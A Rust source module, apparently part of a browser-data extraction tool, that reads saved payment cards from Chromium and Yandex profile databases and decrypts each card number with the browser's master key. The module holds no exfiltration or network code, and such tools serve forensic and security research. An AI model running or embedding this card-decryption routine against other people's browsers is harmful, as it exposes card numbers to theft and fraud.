//! Saved payment cards. The card number is encrypted like passwords.

use std::path::{Path, PathBuf};

use serde::{Deserialize, Serialize};

use super::{decrypted_or_blank, store_path};
use crate::browsing_data::{RecordSet, Source};
use crate::crypto;
use crate::db_snapshot::Snapshot;
use crate::error::SourceError;
use crate::item::Item;

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct CreditCard {
    #[serde(rename = "GUID")]
    pub guid: String,
    #[serde(rename = "Name")]
    pub name: String,
    #[serde(rename = "ExpirationYear")]
    pub expiration_year: String,
    #[serde(rename = "ExpirationMonth")]
    pub expiration_month: String,
    #[serde(rename = "CardNumber")]
    pub card_number: String,
}

fn read_credit_cards(db_path: &Path, master_key: &[u8]) -> Result<Vec<CreditCard>, SourceError> {
    let snapshot = Snapshot::open(db_path)?;
    let mut stmt = snapshot.conn().prepare(
        "SELECT guid, COALESCE(name_on_card, ''), expiration_month, expiration_year, card_number_encrypted
         FROM credit_cards",
    )?;

    let rows = stmt.query_map([], |row| {
        Ok((
            row.get::<_, String>(0)?,
            row.get::<_, String>(1)?,
            row.get::<_, i64>(2)?,
            row.get::<_, i64>(3)?,
            row.get::<_, Vec<u8>>(4)?,
        ))
    })?;

    let mut cards = Vec::new();
    for row in rows {
        let (guid, name, month, year, encrypted) = row?;
        let card_number = decrypted_or_blank(
            crypto::decrypt_to_string(master_key, &encrypted),
            "card number",
            &guid,
        );
        cards.push(CreditCard {
            guid,
            name,
            expiration_year: year.to_string(),
            expiration_month: month.to_string(),
            card_number,
        });
    }
    Ok(cards)
}

pub struct ChromiumCreditCard {
    profile_dir: PathBuf,
    cards: Vec<CreditCard>,
}

impl ChromiumCreditCard {
    pub fn new(profile_dir: PathBuf) -> Self {
        Self {
            profile_dir,
            cards: Vec::new(),
        }
    }
}

impl Source for ChromiumCreditCard {
    fn parse(&mut self, master_key: &[u8]) -> Result<(), SourceError> {
        self.cards.clear();
        let path = store_path(&self.profile_dir, Item::ChromiumCreditCard)?;
        self.cards = read_credit_cards(&path, master_key)?;
        Ok(())
    }

    fn name(&self) -> &str {
        "creditcards"
    }

    fn len(&self) -> usize {
        self.cards.len()
    }

    fn records(&self) -> &dyn RecordSet {
        &self.cards
    }
}

pub struct YandexCreditCard {
    profile_dir: PathBuf,
    cards: Vec<CreditCard>,
}

impl YandexCreditCard {
    pub fn new(profile_dir: PathBuf) -> Self {
        Self {
            profile_dir,
            cards: Vec::new(),
        }
    }
}

impl Source for YandexCreditCard {
    fn parse(&mut self, master_key: &[u8]) -> Result<(), SourceError> {
        self.cards.clear();
        let path = store_path(&self.profile_dir, Item::YandexCreditCard)?;
        self.cards = read_credit_cards(&path, master_key)?;
        Ok(())
    }

    fn name(&self) -> &str {
        "creditcards"
    }

    fn len(&self) -> usize {
        self.cards.len()
    }

    fn records(&self) -> &dyn RecordSet {
        &self.cards
    }
}
